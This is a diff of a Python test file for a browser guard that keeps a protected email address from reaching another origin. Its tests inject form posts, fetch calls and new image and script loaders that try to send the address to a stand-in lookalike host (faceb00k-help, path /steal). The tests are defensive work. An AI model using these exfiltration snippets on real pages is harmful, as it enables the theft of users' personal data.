@@ -78,14 +78,20 @@ def test_a_passage_is_answered_when_each_request_has_its_reply(sent: set[int], r
     assert passage.is_answered == (sent <= replied)
 
 
-def protected(show: Callable[[str], Session], html: str) -> Session:
-    session = show(html)
-    session.guard.protect([EMAIL])
-    return session
+@pytest.fixture
+def protected(run: Callable, show: Callable[[str], Session]) -> Callable[[str], Session]:
+    """Show a page from which an address must not leave for elsewhere."""
+
+    def shown(html: str) -> Session:
+        session = show(html)
+        run(session.guard.protect([EMAIL]))
+        return session
+
+    return shown
 
 
-def test_a_form_that_posts_to_another_origin_posts_nothing(run: Callable, show: Callable, served: Served) -> None:
-    session = protected(show, FORM.format(action=f"{ELSEWHERE}steal", email=EMAIL, more=""))
+def test_a_form_that_posts_to_another_origin_posts_nothing(run: Callable, protected: Callable, served: Served) -> None:
+    session = protected(FORM.format(action=f"{ELSEWHERE}steal", email=EMAIL, more=""))
     run(session.page.click("button"))
     with pytest.raises(StrayedError, match="faceb00k-help"):
         run(Tab(session.page, session.guard, 10).until(lambda _look: False))
@@ -93,8 +99,8 @@ def test_a_form_that_posts_to_another_origin_posts_nothing(run: Callable, show: 
 
 
 @pytest.mark.parametrize("way", SENDERS)
-def test_an_answer_is_not_sent_elsewhere_by_a_script(way: str, run: Callable, show: Callable, served: Served) -> None:
-    session = protected(show, "")
+def test_an_answer_is_not_sent_elsewhere_by_a_script(way: str, run: Callable, protected: Callable, served: Served) -> None:
+    session = protected("")
     run(session.page.evaluate(SENDERS[way].format(to=f"{ELSEWHERE}steal", email=EMAIL)))
     run(session.page.evaluate("fetch('/done')"))
     assert served.hosts() == {"www.facebook.com"}
@@ -102,8 +108,24 @@ def test_an_answer_is_not_sent_elsewhere_by_a_script(way: str, run: Callable, sh
     assert session.guard.strayed.startswith(f"{ELSEWHERE}steal")
 
 
-def test_what_carries_no_answer_may_be_fetched_from_elsewhere(run: Callable, show: Callable, served: Served) -> None:
-    session = protected(show, "")
+LOADERS = {
+    "image": "new Promise(end => {{ let i = new Image(); i.onload = i.onerror = () => end('over'); i.src = '{to}'; }})",
+    "script": """new Promise(end => {{ let s = document.createElement('script'); s.onload = s.onerror = () => end('over');
+        s.src = '{to}'; document.head.append(s); }})""",
+}
+
+
+@pytest.mark.parametrize("way", LOADERS)
+def test_an_answer_is_not_carried_away_by_what_a_page_loads(way: str, run: Callable, protected: Callable, served: Served) -> None:
+    session = protected("")
+    for query in (EMAIL.replace("@", "%40"), "size=2"):
+        run(session.page.evaluate(LOADERS[way].format(to=f"{ELSEWHERE}picture?{query}")))
+    assert [path for _, host, path, _ in served.requests if host != "www.facebook.com"] == ["/picture?size=2"]
+    assert session.guard.strayed is None
+
+
+def test_what_carries_no_answer_may_be_fetched_from_elsewhere(run: Callable, protected: Callable, served: Served) -> None:
+    session = protected("")
     run(session.page.evaluate(f"fetch('{ELSEWHERE}style', {{mode: 'no-cors'}}).then(String)"))
     assert "www.faceb00k-help.com" in served.hosts()
     assert session.guard.strayed is None
@@ -115,9 +137,9 @@ def test_plain_http_is_not_gone_to(run: Callable, session: Session, served: Serv
     assert served.requests == []
 
 
-def test_a_submit_that_is_redirected_to_another_origin_ends_there(run: Callable, show: Callable, served: Served) -> None:
+def test_a_submit_that_is_redirected_to_another_origin_ends_there(run: Callable, protected: Callable, served: Served) -> None:
     served.replies["/submit"] = lambda: RedirectResponse(f"{ELSEWHERE}steal", 307)
-    session = protected(show, FORM.format(action="/submit", email=EMAIL, more=""))
+    session = protected(FORM.format(action="/submit", email=EMAIL, more=""))
     run(session.page.click("button"))
     with pytest.raises(StrayedError):
         run(Tab(session.page, session.guard, 10).until(lambda _look: False))
@@ -133,16 +155,16 @@ def test_a_submit_that_is_redirected_to_another_origin_ends_there(run: Callable,
     ],
     ids=["form", "open", "link"],
 )
-def test_a_popup_takes_nothing_elsewhere(html: str, run: Callable, show: Callable, served: Served) -> None:
-    session = protected(show, html)
+def test_a_popup_takes_nothing_elsewhere(html: str, run: Callable, protected: Callable, served: Served) -> None:
+    session = protected(html)
 
     run(session.page.click("button"))
     run(session.page.evaluate("fetch('/done')"))
     assert served.hosts() == {"www.facebook.com"}
 
 
-def test_under_one_fence_a_request_goes_out_once(run: Callable, show: Callable, served: Served) -> None:
-    session = protected(show, "")
+def test_under_one_fence_a_request_goes_out_once(run: Callable, protected: Callable, served: Served) -> None:
+    session = protected("")
     send = f"fetch('/submit', {{method: 'POST', body: 'email={EMAIL}'}}).then(r => r.status, () => 'stopped')"
     with session.guard.fence() as passage:
         assert run(session.page.evaluate(send)) == 200
@@ -155,17 +177,17 @@ def test_under_one_fence_a_request_goes_out_once(run: Callable, show: Callable, 
     assert len(served.posted()) == 2
 
 
-def test_a_failure_of_the_server_is_no_answer(run: Callable, show: Callable, served: Served) -> None:
+def test_a_failure_of_the_server_is_no_answer(run: Callable, protected: Callable, served: Served) -> None:
     served.replies["/submit"] = lambda: PlainTextResponse("oops", 502)
-    session = protected(show, "")
+    session = protected("")
     with session.guard.fence() as passage:
         run(session.page.evaluate(f"fetch('/submit', {{method: 'POST', body: 'email={EMAIL}'}}).then(r => r.status)"))
     assert passage.sent
     assert not passage.is_answered
 
 
-def test_what_carries_no_answer_passes_the_fence_freely(run: Callable, show: Callable, served: Served) -> None:
-    session = protected(show, "")
+def test_what_carries_no_answer_passes_the_fence_freely(run: Callable, protected: Callable, served: Served) -> None:
+    session = protected("")
     with session.guard.fence() as passage:
         run(session.page.evaluate("Promise.all([1, 2].map(() => fetch('/log', {method: 'POST', body: 'a=b'})))"))
     assert passage.sent == set()
